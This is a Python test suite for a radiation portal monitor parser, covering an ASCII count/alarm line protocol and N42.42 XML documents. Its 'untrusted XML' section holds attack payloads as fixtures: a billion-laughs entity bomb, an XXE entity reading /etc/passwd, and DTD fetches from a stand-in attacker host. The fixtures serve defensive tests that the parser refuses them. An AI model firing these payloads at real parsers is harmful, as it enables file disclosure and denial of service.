"""Radiation portal monitors: the ASCII status line protocol and ANSI N42.42-2012 XML."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from drivers.serial.framing import make_framer
from drivers.serial.protocols import radiation
from drivers.serial.protocols.base import Parsed

NS = radiation.N42_NS


def _json(p: Parsed) -> None:
    json.dumps(p.fields, allow_nan=False)


def _doc(body: str, *, root: str = f'<RadInstrumentData xmlns="{NS}">', close: str = "</RadInstrumentData>") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{root}{body}{close}'.encode()


def _measurement(class_code: str, counts: dict[str, str], extra: str = "", real: str = "PT30S") -> str:
    gross = "".join(
        f'<GrossCounts id="gc-{ref}" radDetectorInformationReference="{ref}">'
        f"<LiveTimeDuration>{real}</LiveTimeDuration><CountData>{data}</CountData></GrossCounts>"
        for ref, data in counts.items()
    )
    return (
        f'<RadMeasurement id="m-{class_code}"><MeasurementClassCode>{class_code}</MeasurementClassCode>'
        f"<StartDateTime>2024-05-01T10:15:00Z</StartDateTime><RealTimeDuration>{real}</RealTimeDuration>"
        f"{gross}{extra}</RadMeasurement>"
    )


DETECTORS = (
    '<RadDetectorInformation id="G1"><RadDetectorCategoryCode>Gamma</RadDetectorCategoryCode></RadDetectorInformation>'
    '<RadDetectorInformation id="N1"><RadDetectorCategoryCode>Neutron</RadDetectorCategoryCode>'
    "</RadDetectorInformation>"
)


def _alarms(*categories: str) -> str:
    alarms = "".join(
        f'<RadAlarm radDetectorInformationReferences="G1"><RadAlarmCategoryCode>{c}</RadAlarmCategoryCode>'
        f"<RadAlarmDescription>{c} alarm</RadAlarmDescription></RadAlarm>"
        for c in categories
    )
    return f"<AnalysisResults>{alarms}</AnalysisResults>"


# ---------------------------------------------------------------- module contract


def test_module_contract() -> None:
    assert radiation.NAME == "radiation"
    make_framer(**radiation.FRAMING)  # type: ignore[arg-type]
    make_framer(**radiation.FRAMING_N42)  # type: ignore[arg-type]


@pytest.mark.parametrize("sample", radiation.SAMPLES)
def test_samples_are_valid(sample: bytes) -> None:
    p = radiation.parse(sample)
    assert p.valid, p.error
    _json(p)


@pytest.mark.parametrize(("sample", "check"), radiation.BAD_SAMPLES)
def test_bad_samples_fail_the_named_check(sample: bytes, check: str) -> None:
    p = radiation.parse(sample)
    assert not p.valid and check in p.failed
    _json(p)


def test_ascii_framing_split_anywhere() -> None:
    stream = b"".join(radiation.SAMPLES)
    framer = make_framer(**radiation.FRAMING)  # type: ignore[arg-type]
    chunks = [c for i in range(len(stream)) for c in framer.feed(stream[i : i + 1])] + framer.flush()
    frames = [c for c in chunks if c.kind == "frame"]
    assert len(frames) == len(radiation.SAMPLES)
    assert all(radiation.parse(c.payload).valid for c in frames)


def test_n42_framing_two_documents_back_to_back() -> None:
    framer = make_framer(**radiation.FRAMING_N42)  # type: ignore[arg-type]
    stream = radiation.N42_SAMPLE + b"\r\n" + radiation.N42_SAMPLE
    chunks = framer.feed(stream[:700]) + framer.feed(stream[700:]) + framer.flush()
    assert [c.kind for c in chunks] == ["frame", "frame"]
    for chunk in chunks:
        p = radiation.parse(chunk.payload)
        assert p.valid and p.kind == "n42", p.error


# ---------------------------------------------------------------- ASCII line protocol


@pytest.mark.parametrize(
    ("line", "kind", "gamma", "neutron", "occupied", "alarm"),
    [
        (b"GB,000123,000045,OCC=0", "status", 123, 45, False, None),
        (b"GB,000123,000045", "status", 123, 45, False, None),
        (b"GB,000123,000045,OCC=1", "status", 123, 45, True, None),
        (b"GS,431,4", "status", 431, 4, True, None),
        (b"GA,001978,000004,OCC=1", "alarm", 1978, 4, True, "gamma"),
        (b"NA,000415,000041", "alarm", 415, 41, True, "neutron"),
        (b"BA,002210,000052", "alarm", 2210, 52, True, "both"),
        (b" GB , 000001 , 000000 \r\n", "status", 1, 0, False, None),
    ],
)
def test_ascii_count_lines(line: bytes, kind: str, gamma: int, neutron: int, occupied: bool, alarm: str | None) -> None:
    p = radiation.parse(line)
    assert p.valid and p.kind == kind, p.error
    f = p.fields
    assert (f["gamma_cps"], f["neutron_cps"], f["occupied"], f["alarm"], f["fault"]) == (
        gamma,
        neutron,
        occupied,
        alarm,
        None,
    )
    assert f["format"] == "ascii" and f["message"] == line.strip().split(b",")[0].strip().decode()


def test_ascii_occupancy() -> None:
    assert radiation.parse(b"OC,1").fields["occupied"] is True
    assert radiation.parse(b"OC,0").fields["occupied"] is False
    assert radiation.parse(b"OC,1").kind == "occupancy"


@pytest.mark.parametrize(
    ("line", "fault"),
    [
        (b"FLT,GH", "gamma_high"),
        (b"FLT,GL,low", "gamma_low"),
        (b"FLT,NH", "neutron_high"),
        (b"FLT,NL", "neutron_low"),
        (b"FLT,TT,door open, cabinet 2", "tamper"),
        (b"FLT,CM", "comms"),
        (b"FLT,OK", None),
        (b"FLT,HV2", "hv2"),
    ],
)
def test_ascii_faults_are_valid_state_reports(line: bytes, fault: str | None) -> None:
    p = radiation.parse(line)
    assert p.valid and p.kind == "fault" and p.fields["fault"] == fault


@pytest.mark.parametrize(
    ("line", "check"),
    [
        (b"GB,000123", "format"),
        (b"GB,000123,000045,OCC=0,X", "format"),
        (b"GB,-00123,000045", "format"),
        (b"GB,12345678,000045", "format"),
        (b"GB,000123,000045,OCC=yes", "format"),
        (b"OC", "format"),
        (b"OC,yes", "format"),
        (b"FLT", "format"),
        (b"FLT,gh", "format"),
        (b"ZZ,1,2", "format"),
        (b"GB,00\x01123,000045", "charset"),
        (b"GB,\xc3\xa9,0", "charset"),
    ],
)
def test_ascii_corrupted(line: bytes, check: str) -> None:
    p = radiation.parse(line)
    assert not p.valid and p.failed == (check,)
    _json(p)


@given(
    st.sampled_from(["GB", "GS", "GA", "NA", "BA"]),
    st.integers(0, 9_999_999),
    st.integers(0, 9_999_999),
    st.sampled_from(["", ",OCC=0", ",OCC=1"]),
    st.integers(0, 7),
)
def test_ascii_round_trip(code: str, gamma: int, neutron: int, occ: str, pad: int) -> None:
    line = f"{code},{gamma:0{pad}d},{neutron:0{pad}d}{occ}\r\n".encode()
    p = radiation.parse(line)
    if len(f"{gamma:0{pad}d}") > 7 or len(f"{neutron:0{pad}d}") > 7:
        assert not p.valid
        return
    assert p.valid and p.fields["gamma_cps"] == gamma and p.fields["neutron_cps"] == neutron
    if occ:
        assert p.fields["occupied"] is occ.endswith("1")


# ---------------------------------------------------------------- N42.42 XML


def test_n42_sample_document() -> None:
    # Structure after ANSI N42.42-2012 (n42.xsd): RadInstrumentInformation, RadDetectorInformation,
    # RadMeasurement/GrossCounts(LiveTimeDuration, CountData), AnalysisResults/RadAlarm.
    p = radiation.parse(radiation.N42_SAMPLE)
    assert p.valid and p.kind == "n42", p.error
    f = p.fields
    assert f["uuid"] == "d72b7fa7-4a20-43d4-b1b2-7e3b8c5a9f01"
    assert f["instrument"] == {
        "manufacturer": "Example RPM Co.",
        "model": "VM-4500",
        "identifier": "RPM-LANE-03",
        "class_code": "Portal Radiation Monitor",
    }
    background, foreground = f["measurements"]
    assert background["class_code"] == "Background" and background["occupied"] is False
    assert background["gamma_counts"] == 24600 and background["gamma_cps"] == pytest.approx(410.0)
    assert background["neutron_cps"] == pytest.approx(2.0) and background["real_time_s"] == 60.0
    assert foreground["start"] == "2024-05-01T10:15:00Z"
    # the headline numbers come from the Foreground (occupancy) measurement
    assert (f["gamma_counts"], f["neutron_counts"]) == (29400, 66)
    assert f["gamma_cps"] == pytest.approx(980.0) and f["neutron_cps"] == pytest.approx(2.2)
    assert f["occupied"] is True and f["alarm"] == "gamma" and f["fault"] is None
    assert f["alarms"] == [
        {"category": "Gamma", "description": "Gamma gross count above threshold", "light_color": "Red"}
    ]
    _json(p)


@pytest.mark.parametrize(
    ("categories", "alarm"),
    [
        ((), None),
        (("Gamma",), "gamma"),
        (("Neutron",), "neutron"),
        (("Gamma", "Neutron"), "both"),
        (("Isotope",), "other"),
        (("Neutron", "Other"), "neutron"),
    ],
)
def test_n42_alarm_summary(categories: tuple[str, ...], alarm: str | None) -> None:
    doc = _doc(DETECTORS + _measurement("Foreground", {"G1": "300", "N1": "3"}) + _alarms(*categories))
    p = radiation.parse(doc)
    assert p.valid and p.fields["alarm"] == alarm
    assert [a["category"] for a in p.fields["alarms"]] == list(categories)


def test_n42_without_namespace_and_with_prefix() -> None:
    plain = _doc(DETECTORS + _measurement("Background", {"G1": "300"}), root="<RadInstrumentData>")
    assert radiation.parse(plain).valid
    prefixed = (
        f'<n42:RadInstrumentData xmlns:n42="{NS}"><n42:RadMeasurement id="m"><n42:MeasurementClassCode>Background'
        "</n42:MeasurementClassCode></n42:RadMeasurement></n42:RadInstrumentData>"
    ).encode()
    assert radiation.parse(prefixed).valid


def test_n42_detectors_guessed_from_reference_names() -> None:
    doc = _doc(_measurement("Foreground", {"GammaPanel1": "600", "NeutronPanel1": "30"}, real="PT60S"))
    f = radiation.parse(doc).fields
    assert f["gamma_cps"] == pytest.approx(10.0) and f["neutron_cps"] == pytest.approx(0.5)


def test_n42_occupancy_indicator_wins_over_class_code() -> None:
    doc = _doc(DETECTORS + _measurement("Foreground", {"G1": "1"}, "<OccupancyIndicator>false</OccupancyIndicator>"))
    assert radiation.parse(doc).fields["occupied"] is False


def test_n42_energy_windows_are_summed_and_zero_live_time_has_no_rate() -> None:
    doc = _doc(DETECTORS + _measurement("Foreground", {"G1": "100 200 50.5"}, real="PT0S"))
    f = radiation.parse(doc).fields
    assert f["gamma_counts"] == 350.5 and f["gamma_cps"] is None


@pytest.mark.parametrize(
    ("text", "seconds"),
    [("PT30S", 30.0), ("PT0.2S", 0.2), ("PT1M30S", 90.0), ("PT1H", 3600.0), ("P0DT0H0M30S", 30.0), ("P1D", 86400.0)],
)
def test_durations(text: str, seconds: float) -> None:
    assert radiation.duration_seconds(text) == pytest.approx(seconds)


@pytest.mark.parametrize(
    ("doc", "check"),
    [
        (_doc(DETECTORS + _measurement("Foreground", {"G1": "12x"})), "count_data"),
        (_doc(DETECTORS + _measurement("Foreground", {"G1": "-5"})), "count_data"),
        (_doc(DETECTORS + _measurement("Foreground", {"G1": "nan"})), "count_data"),
        (_doc(DETECTORS + _measurement("Foreground", {"G1": "1e999"})), "count_data"),
        (_doc(DETECTORS + _measurement("Foreground", {"G1": ""})), "count_data"),
        (_doc(DETECTORS + _measurement("Foreground", {"G1": "5"}, real="30 seconds")), "duration"),
        (_doc(DETECTORS + _measurement("Foreground", {"G1": "5"}, real="PT")), "duration"),
        (_doc(DETECTORS + _measurement("Foreground", {"G1": "5"}, real="PT" + "9" * 400 + "S")), "duration"),
        (_doc(_measurement("Foreground", {}).replace("2024-05-01T10:15:00Z", "yesterday")), "date:start"),
        (_doc(DETECTORS), "format"),
        (_doc("", root="<Spectrum>", close="</Spectrum>"), "format"),
        (_doc("<RadMeasurement/>", root='<RadInstrumentData xmlns="urn:other">'), "namespace"),
        (_doc(DETECTORS + _measurement("Foreground", {"G1": "5"}), close=""), "xml_malformed"),
        (b"<RadInstrumentData><RadMeasurement></RadInstrumentData>", "xml_malformed"),
        (b"<", "xml_malformed"),
        (b'<?xml version="1.0" encoding="no-such-codec"?><RadInstrumentData/>', "xml_malformed"),
    ],
)
def test_n42_invalid_documents(doc: bytes, check: str) -> None:
    p = radiation.parse(doc)
    assert not p.valid and p.failed == (check,) and p.kind == "n42", (p.failed, p.error)
    _json(p)


def test_n42_truncated_anywhere_never_valid_never_raises() -> None:
    doc = radiation.N42_SAMPLE
    for cut in range(1, len(doc) - 1, 7):
        p = radiation.parse(doc[:cut])
        assert not p.valid
        _json(p)


# ---------------------------------------------------------------- untrusted XML

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE RadInstrumentData [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<RadInstrumentData xmlns="http://physics.nist.gov/N42/2011/N42"><Remark>&lol9;</Remark></RadInstrumentData>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE RadInstrumentData [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<RadInstrumentData xmlns="http://physics.nist.gov/N42/2011/N42">
<RadInstrumentInformation><RadInstrumentModelName>&xxe;</RadInstrumentModelName></RadInstrumentInformation>
<RadMeasurement id="m"/></RadInstrumentData>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE RadInstrumentData [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<RadInstrumentData/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE RadInstrumentData SYSTEM "http://attacker.invalid/n42.dtd">
<RadInstrumentData><RadMeasurement id="m"/></RadInstrumentData>"""

INTERNAL_DTD_ONLY = b"""<?xml version="1.0"?>
<!DOCTYPE RadInstrumentData [<!ELEMENT RadInstrumentData ANY>]>
<RadInstrumentData><RadMeasurement id="m"/></RadInstrumentData>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER, EXTERNAL_DTD, INTERNAL_DTD_ONLY])
def test_untrusted_xml_is_refused_not_expanded(doc: bytes) -> None:
    started = time.perf_counter()
    p = radiation.parse(doc)
    assert time.perf_counter() - started < 1.0
    assert not p.valid and p.failed == ("xml_unsafe",) and p.kind == "n42"
    assert p.fields == {}  # nothing from the document, certainly no file content
    assert "lol" not in (p.error or "") and "root:" not in (p.error or "")


def test_a_huge_document_is_refused_by_size() -> None:
    doc = _doc("<Remark>" + "x" * radiation.MAX_N42_BYTES + "</Remark>")
    assert radiation.parse(doc).failed == ("length",)


# ---------------------------------------------------------------- robustness


@given(st.binary(max_size=200))
def test_random_bytes_never_raise(data: bytes) -> None:
    for parse in (radiation.parse, radiation.parse_ascii, radiation.parse_n42):
        p = parse(data)
        assert isinstance(p, Parsed) and p.valid is (not p.failed)
        _json(p)


@given(st.binary(max_size=200))
def test_random_bytes_after_an_xml_start_never_raise(data: bytes) -> None:
    p = radiation.parse(b"<RadInstrumentData>" + data)
    _json(p)


@given(st.text(alphabet='<>/="RadInstrumentDataMeasurementGrossCountsPT0123S .-', max_size=120))
def test_xml_soup_never_raises(text: str) -> None:
    _json(radiation.parse(("<" + text).encode()))


@given(st.sampled_from([_measurement("Foreground", {"G1": "5"})]), st.integers(0, 200), st.binary(max_size=8))
def test_n42_with_bytes_spliced_in_never_raises(meas: str, at: int, junk: bytes) -> None:
    doc = _doc(DETECTORS + meas)
    at = min(at, len(doc))
    _json(radiation.parse(doc[:at] + junk + doc[at:]))
